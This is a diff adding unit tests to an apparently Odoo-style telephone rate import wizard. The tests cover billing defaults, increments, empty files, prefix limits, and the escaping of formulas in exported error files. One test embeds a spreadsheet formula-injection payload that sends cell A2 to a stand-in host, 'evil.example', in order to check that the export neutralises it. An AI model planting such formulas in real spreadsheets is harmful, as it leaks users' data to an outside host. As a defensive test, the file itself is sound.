@@ -228,3 +228,51 @@ class TestRateLayouts(RateCase):
     def test_a_formula_that_has_failed_names_nothing(self):
         file = self._formulas(self.HEADER, ("7", ("=NA()", "#N/A"), 0.05, 0, "x"))
         self.assertEqual(set(self._refusal(file=file)), {(2, "destination")})
+
+    # === WHAT A FILE LEAVES OPEN === #
+
+    def test_what_a_file_says_nothing_of_stays_as_it_was(self):
+        """+49 is billed by 6 s, at least 30; +44 has a fee of 0.01; a new one is billed by the minute."""
+        wizard = self._import("49,0.07", "44,0.04", "7,0.05", header="prefix,price_per_minute")
+        self.assertEqual(wizard.terms_count, 0)
+        wizard.action_apply()
+        told = {
+            prefix: (rate.price_per_minute, rate.increment_seconds, rate.minimum_seconds, rate.connection_fee)
+            for prefix in ("49", "44", "7")
+            for rate in self._rates(prefix)[-1:]
+        }
+        self.assertEqual(
+            told,
+            {
+                "49": (Decimal("0.07"), 6, 30, 0),
+                "44": (Decimal("0.04"), 60, 0, Decimal("0.01")),
+                "7": (Decimal("0.05"), 60, 0, 0),
+            },
+        )
+
+    def test_a_file_that_says_some_of_how_long_is_billed_says_all_of_it(self):
+        wizard = self._import("49,0.06,10", header="prefix,price_per_minute,increment")
+        [line] = wizard._changes().filtered("line")
+        self.assertEqual((line.increment_seconds, line.minimum_seconds), (10, 0))
+
+    # === WHAT IS SENT BACK === #
+
+    def test_headings_of_a_carrier_are_no_formulas_in_the_file_of_faulty_lines(self):
+        evil = '=HYPERLINK("http://evil.example/?"&A2)'
+        text = f'prefix,price_per_minute,"{evil.replace(chr(34), 2 * chr(34))}"\n44,x,0.01\n'
+        wizard = self._begin(text)
+        wizard.action_continue()
+        wizard.column_ids.filtered(lambda column: column.heading.startswith("=")).meaning = "connection_fee"
+        wizard.action_continue()
+        _name, content = wizard._faulty_lines()
+        headings, line = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+        self.assertEqual(headings[2], f"'{evil}")
+        self.assertEqual(line[:3], ["44", "x", "0.01"])
+
+    def test_a_file_without_a_line_has_no_faulty_ones(self):
+        with self.assertRaisesRegex(UserError, "it is empty"):
+            self._begin(" , \n")._faulty_lines()
+
+    def test_a_cell_with_prefixes_without_end_is_refused(self):
+        errors = self._refusal('"' + "1000-1999," * 11 + '1",0.01', header="prefix,price_per_minute")
+        self.assertEqual(errors[2, "prefix"], "A line has at most 10000 prefixes: use several lines.")
